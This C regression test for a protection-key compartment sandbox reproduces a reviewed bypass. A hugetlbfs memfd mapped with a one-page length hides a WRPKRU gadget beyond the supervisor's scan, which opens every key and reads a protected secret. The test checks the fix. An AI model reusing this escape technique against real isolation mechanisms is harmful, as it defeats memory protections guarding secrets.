// The supervisor scans the bytes an executable file mapping maps from the
// call's length, rounded up to 4 KiB pages (runtime/supervisor-exec.c
// judge(); review 3's "short length" fix), and judges the mapping's upper
// edge at that length too (judge_edges()). For a file on hugetlbfs the
// kernel rounds the length up to the huge page (ksys_mmap_pgoff:
// ALIGN(len, huge_page_size)): mmap(NULL, 4096, PROT_READ | PROT_EXEC,
// MAP_PRIVATE, fd, 0) of a hugetlb memfd maps 2 MiB, of which the scan saw
// the first 4 KiB. The default domain makes a memfd with MFD_HUGETLB (any
// user may), writes one huge page of int3 with a WRPKRU; ret at 64 KiB
// through a shared mapping, unmaps it, seals the memfd (F_SEAL_WRITE: the
// rule against changeable files lets it through), maps it executable with
// a length of one page, and jumps to the WRPKRU with eax = ecx = edx = 0:
// every key opens and the vault's page reads. The control maps the same
// memfd with its whole length and is refused. Huge pages must be reserved
// (vm.nr_hugepages, 3 are needed: the file's page and a private
// reservation each for the supervisor's scan mapping and the program's);
// here the child sets 8 as root before it steps down to nobody. Found in
// the fifth review (attacker model B); reproduced in the QEMU guest (6.1)
// as uid 65534.
//
// Fixed (runtime/supervisor-exec.c judge): refuse executable mappings of hugetlbfs files (fstatfs f_type
// HUGETLBFS_MAGIC; nothing honest runs code from them).
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -o %t.off
// RUN: %run %t.off | FileCheck %s --check-prefix=OFF
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
// RUN: %run %t.on | FileCheck %s --check-prefix=ON
// OFF: == hugetlb-one-page
// OFF-NEXT: mapped 4096
// OFF-NEXT: ATTACK SUCCEEDED: a huge page behind a one-page length read "vault-secret
// ON-NOT: ATTACK SUCCEEDED
// ON: hugetlb-one-page: stopped by signal 9
// ON: hugetlb-full-length: stopped by signal 9
// ON: parent's vault intact: 1
#include "Inputs/target.h"
#include "Inputs/libc-wrpkru.h"

#ifndef MFD_HUGETLB
#define MFD_HUGETLB 4
#endif
#ifndef F_ADD_SEALS
#define F_ADD_SEALS 1033
#define F_SEAL_SHRINK 0x0002
#define F_SEAL_GROW 0x0004
#define F_SEAL_WRITE 0x0008
#endif
#define HUGE (2ul << 20)
#define AT 0x10000

/* Reserve a few huge pages (root may; an administrator may have), before
 * the filter: the supervisor refuses the program's writes to sysctls. */
__attribute__((constructor(101))) static void reserve_huge_pages(void) {
  int h = open("/proc/sys/vm/nr_hugepages", O_RDWR);
  char b[32] = {0};
  if (h >= 0) {
    if (pread(h, b, sizeof b - 1, 0) > 0 && atoi(b) < 8 && pwrite(h, "8\n", 2, 0) != 2)
      printf("setup: nr_hugepages %s\n", strerror(errno));
    close(h);
  }
}

static void huge(size_t len) {
  if (drop_to_nobody())
    return;
  int fd = memfd_create("huge", MFD_CLOEXEC | MFD_ALLOW_SEALING | MFD_HUGETLB);
  unsigned char *w = fd < 0 || ftruncate(fd, HUGE)
                         ? MAP_FAILED
                         : mmap(NULL, HUGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (w == MAP_FAILED) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  memset(w, 0xcc, HUGE); /* int3 */
  w[AT] = 0x0f, w[AT + 1] = 0x01, w[AT + 2] = 0xff ^ flip, w[AT + 3] = 0xc3; /* WRPKRU; ret */
  munmap(w, HUGE);
  if (fcntl(fd, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_SHRINK | F_SEAL_GROW)) {
    printf("setup: %s\n", strerror(errno));
    return;
  }
  unsigned char *m = mmap(NULL, len, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
  if (m == MAP_FAILED) {
    report_read("a huge page behind a one-page length", NULL);
    return;
  }
  printf("mapped %zu\n", len);
  fflush(stdout);
  /* The jump an attacker with the program counter makes (eax = ecx = edx
   * = 0: every key open), and the copy in the same breath. */
  static char out[48];
  JUMP_AND_READ(m + AT, out);
  report_read("a huge page behind a one-page length", out);
}

static void one_page(void) { huge(4096); }
static void full_length(void) { huge(HUGE); }

int main(void) {
  struct attack a[] = {{"hugetlb-one-page", one_page}, {"hugetlb-full-length", full_length}};
  return run_attacks(a, 2);
}
